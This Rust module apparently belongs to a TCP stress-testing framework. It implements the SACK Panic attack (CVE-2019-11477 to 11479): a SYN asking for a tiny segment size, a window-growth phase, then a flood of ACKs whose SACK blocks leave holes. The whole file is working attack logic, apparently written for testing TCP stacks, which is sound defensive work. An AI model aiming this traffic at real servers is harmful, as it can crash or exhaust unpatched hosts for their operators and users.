//! The least segment size, a large window, and holes in what is acknowledged (CVE-2019-11477 to 11479).

use crate::load::forge::{Dice, End, Heard, Packets, Segment, flag, sack_option, syn_options};
use crate::load::siege::{Attack, port};

const FROM: End = (0x0a42_0002, 3000);
/// The segment size that is asked for; the server takes its own least instead.
const MSS: u16 = 8;
/// What comes of it: 48 bytes.
const SEGMENT: u32 = 48;
/// For so long everything is acknowledged, so that the window grows.
const GROWTH: u64 = 200;
/// ACKs in a millisecond.
const RATE: u32 = 96;
/// Milliseconds after which all is acknowledged, and it begins again.
const ROUND: u64 = 1000;

/// See the module.
pub struct Panic {
    una: u32,
    next: u32,
    seq: u32,
    dice: Dice,
}

impl Default for Panic {
    fn default() -> Self {
        Self { una: 0, next: 0, seq: 0, dice: Dice(4) }
    }
}

impl Panic {
    fn ack(&self, options: &[u8], out: &mut Packets) {
        out.push(&Segment {
            from: FROM,
            port: port::BIG_SOURCE,
            seq: self.seq,
            ack: self.una,
            flags: flag::ACK,
            window: 32_768,
            options,
            ..Segment::default()
        });
    }
}

impl Attack for Panic {
    fn step(&mut self, ms: u64, out: &mut Packets) {
        if ms == 0 {
            let options = syn_options(MSS, 5);
            out.push(&Segment {
                from: FROM,
                port: port::BIG_SOURCE,
                flags: flag::SYN,
                window: 65_535,
                options: &options,
                ..Segment::default()
            });
            return;
        }
        if ms % ROUND < GROWTH {
            if ms.is_multiple_of(10) {
                self.una = self.next;
                self.ack(&[], out);
            }
            return;
        }
        let segments = self.next.wrapping_sub(self.una) / SEGMENT;
        let mut option = Vec::new();
        for _ in 0..RATE {
            if segments < 3 {
                return;
            }
            let blocks: [(u32, u32); 4] = std::array::from_fn(|_| {
                let start = self.una.wrapping_add((1 + 2 * self.dice.below(segments / 2)) * SEGMENT);
                (start, start.wrapping_add(SEGMENT))
            });
            sack_option(&blocks, &mut option);
            self.ack(&option, out);
        }
    }

    fn hear(&mut self, heard: &Heard) {
        if heard.has(flag::SYN) {
            (self.seq, self.una, self.next) = (heard.ack, heard.end(), heard.end());
        } else if heard.end().wrapping_sub(self.next) < 1 << 30 {
            self.next = heard.end();
        }
    }
}
